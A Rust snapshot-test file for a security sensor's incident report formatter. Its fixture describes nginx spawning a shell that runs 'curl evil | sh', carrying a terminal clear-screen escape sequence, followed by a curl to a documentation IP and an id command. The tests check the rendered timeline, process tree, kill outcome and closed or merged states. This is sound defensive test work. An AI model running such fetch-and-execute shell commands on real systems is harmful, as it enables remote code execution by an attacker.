use sensor_proto::v1::{
    Action, ActionKind, Event, Exec, Origin, Outcome, Process, Result, Severity, Side, SideReason, Signal,
    event,
};

use super::*;

/// 2026-01-02, three o'clock.
const BEGAN: u64 = 1_767_322_800_000_000_000;

fn process(tgid: u32, parent: u32, command: &[&str]) -> Process {
    let id = |tgid| ProcessId {
        tgid,
        start_time_ns: u64::from(tgid),
    };
    Process {
        id: Some(id(tgid)),
        parent_id: Some(id(parent)),
        executable: command[0].to_owned(),
        args: command.iter().map(ToString::to_string).collect(),
        user: "www-data".to_owned(),
        ..Process::default()
    }
}

fn involved(process: Process, sha256: &str) -> Involved {
    Involved {
        process: Some(process),
        sha256: sha256.to_owned(),
    }
}

fn incident() -> Incident {
    let shell = process(1234, 800, &["/bin/sh", "-c", "curl\u{1b}[2J evil | sh"]);
    let event = Event {
        time_ns: BEGAN,
        process: Some(shell.clone()),
        body: Some(event::Body::Exec(Exec::default())),
        ..Event::default()
    };
    Incident {
        id: "00c0ffee00c0ffee".to_owned(),
        opened_ns: BEGAN,
        updated_ns: BEGAN + 2_000_000_000,
        severity: Severity::High.into(),
        summary: "nginx.service has started /bin/sh for the first time".to_owned(),
        subject: "unit:nginx.service".to_owned(),
        count: 2,
        origin: Some(Origin {
            entry: "service".to_owned(),
            side: Side::External.into(),
            reasons: vec![SideReason {
                side: Side::External.into(),
                text: "it began in nginx.service, which listens on port 80".to_owned(),
            }],
        }),
        signals: vec![Signal {
            source: "lineage".to_owned(),
            bits: 9.5,
            reasons: vec!["nginx.service has started /bin/sh for the first time".to_owned()],
            techniques: vec!["T1059.004".to_owned()],
            event: Some(event),
            ..Signal::default()
        }],
        outcomes: vec![Outcome {
            action: Some(Action {
                kind: ActionKind::Kill.into(),
                target: Some(ProcessId {
                    tgid: 1234,
                    ..ProcessId::default()
                }),
                incident_id: "00c0ffee00c0ffee".to_owned(),
                ..Action::default()
            }),
            result: Result::Done.into(),
            time_ns: BEGAN + 1_000_000,
            latency_ns: 1_000_000,
            ..Outcome::default()
        }],
        processes: vec![
            involved(process(800, 1, &["/usr/sbin/nginx", "-g", "daemon off;"]), ""),
            involved(shell, "e3b0c442"),
            involved(process(1235, 1234, &["/usr/bin/curl", "http://192.0.2.1/x"]), ""),
            involved(process(1236, 1234, &["/bin/sh"]), ""),
            involved(process(1236, 1234, &["/usr/bin/id"]), ""),
        ],
        tactics: vec!["execution".to_owned()],
        next_step: "Find out what started it.".to_owned(),
        ..Incident::default()
    }
}

#[test]
fn a_story() {
    insta::assert_snapshot!(tell(&incident()), @r"
    HIGH 00c0ffee00c0ffee of unit:nginx.service, open
    nginx.service has started /bin/sh for the first time

      when       2026-01-02T03:00:00.000Z to 2026-01-02T03:00:02.000Z, seen 2 times
      came in    by service; external: it began in nginx.service, which listens on port 80
      ATT&CK     T1059.004 (execution)

    What happened
      03:00:00.000Z sh[1234] /bin/sh -c 'curl\x1b[2J evil | sh'
                   9.5 bits: nginx.service has started /bin/sh for the first time (lineage)
      03:00:00.001Z → kill [1234]: done (00c0ffee00c0ffee, after 1.0 ms)

    Processes
      nginx[800] www-data: /usr/sbin/nginx -g 'daemon off;'
      └─ sh[1234] www-data: /bin/sh -c 'curl\x1b[2J evil | sh'
         │ sha256 e3b0c442
         ├─ curl[1235] www-data: /usr/bin/curl http://192.0.2.1/x
         └─ sh[1236] www-data: /bin/sh
            then id[1236] www-data: /usr/bin/id

    Next
      Find out what started it.
    ");
}

#[test]
fn how_it_ends() {
    let mut incident = incident();
    incident.ended = Some(Ending {
        reason: Reason::Closed.into(),
        verdict: Verdict::Benign.into(),
        who: "root (uid 0)".to_owned(),
        why: "a drill".to_owned(),
        time_ns: BEGAN,
        ..Ending::default()
    });
    insta::assert_snapshot!(tell(&incident).lines().next().unwrap_or_default(), @"HIGH 00c0ffee00c0ffee of unit:nginx.service, closed 2026-01-02T03:00:00.000Z: benign, by root (uid 0): a drill");
    insta::assert_snapshot!(super::super::line(&incident), @"2026-01-02T03:00:02.000Z 00c0ffee00c0ffee HIGH     benign         nginx.service has started /bin/sh for the first time [T1059.004] [unit:nginx.service, 2 times]");
    incident.ended = Some(Ending {
        reason: Reason::Merged.into(),
        into: "0bad".to_owned(),
        ..Ending::default()
    });
    insta::assert_snapshot!(tell(&incident).lines().next().unwrap_or_default(), @"HIGH 00c0ffee00c0ffee of unit:nginx.service, a part of 0bad");
}

#[test]
fn processes_that_claim_to_be_their_own_ancestors_end() {
    let mut text = String::new();
    processes(
        &mut text,
        &[
            involved(process(1, 2, &["/a"]), ""),
            involved(process(2, 1, &["/b"]), ""),
            involved(process(3, 3, &["/c"]), ""),
        ],
    );
    assert!(text.len() < 10_000, "{text}");
}
